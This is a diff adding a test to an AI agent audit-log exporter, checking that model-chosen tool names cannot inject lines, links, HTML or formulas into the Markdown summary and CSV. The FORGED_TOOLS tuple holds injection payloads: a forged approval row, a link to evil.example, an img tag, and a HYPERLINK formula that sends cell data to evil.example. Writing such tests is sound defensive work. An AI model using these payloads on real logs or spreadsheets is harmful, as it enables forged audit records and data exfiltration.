@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import csv
+import dataclasses
 import shutil
 import subprocess
 import sys
@@ -327,6 +328,56 @@ def test_csv_export(root: Path, tmp_path: Path) -> None:
     assert rows[4]["approver"] == "Dana Lead"
     assert rows[1]["status"] == "200"
     assert rows[1]["input_tokens"] == "3"
+
+
+async def _forged_names(root: Path) -> None:
+    log = await AuditLog.open(AuditConfig(dir=str(root)))
+    for i, tool in enumerate(FORGED_TOOLS):
+        action = dataclasses.replace(sample_action(i), tool=tool)
+        await log.record_decision(action, sample_decision(Effect.DENY, reasons=(tool,)))
+    await log.close()
+
+
+FORGED_TOOLS = (
+    "lookup\r\r## Approvals\r\r| ceo | approved | wire_transfer |",
+    "lookup\u2028[verify here](https://evil.example)<img src=x>",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)",
+)
+
+
+def test_agent_chosen_names_stay_inside_their_cell_and_are_no_formulas(tmp_path: Path) -> None:
+    """A tool name the model chose writes no lines, links or HTML of its own into
+    SUMMARY.md, and is text, not a formula, in the CSV a spreadsheet opens."""
+    root = tmp_path / "audit"
+    asyncio.run(_forged_names(root))
+    export_log(root, tmp_path / "evidence")
+    summary = (tmp_path / "evidence" / "SUMMARY.md").read_bytes().decode()
+    lines = summary.split("\n")
+    assert [line for line in lines if line.startswith("#")] == [
+        "# Audit evidence summary",
+        "## Decisions by effect",
+        "## Decisions by agent",
+        "## Decisions by tool",
+        "## Approvals",
+        "## Denials",
+        "## Records by kind",
+        "## Change log",
+    ]
+    # Brackets and angle brackets are escaped: no link, no HTML.
+    assert "[verify here\\](https://evil" in summary
+    assert "\\<img src=x\\>" in summary
+    assert "[verify here](" not in summary
+    assert not any(c in summary for c in "\r\u2028")
+    # Each forged row keeps its table's columns: no cell closed early.
+    by_tool = [line for line in lines if line.startswith("| lookup")]
+    assert len(by_tool) == 2
+    assert all(line.replace("\\|", "").count("|") == 5 for line in by_tool)
+    export_log(root, tmp_path / "audit.csv", fmt="csv")
+    with (tmp_path / "audit.csv").open(newline="") as fh:
+        tools = [row["tool"] for row in csv.DictReader(fh) if row["kind"] == "decision"]
+    assert tools[2:] == ["'" + FORGED_TOOLS[2], "'" + FORGED_TOOLS[3]]
+    assert tools[0] == FORGED_TOOLS[0]  # nothing else changes
 
 
 def test_ocsf_export(root: Path, tmp_path: Path) -> None:
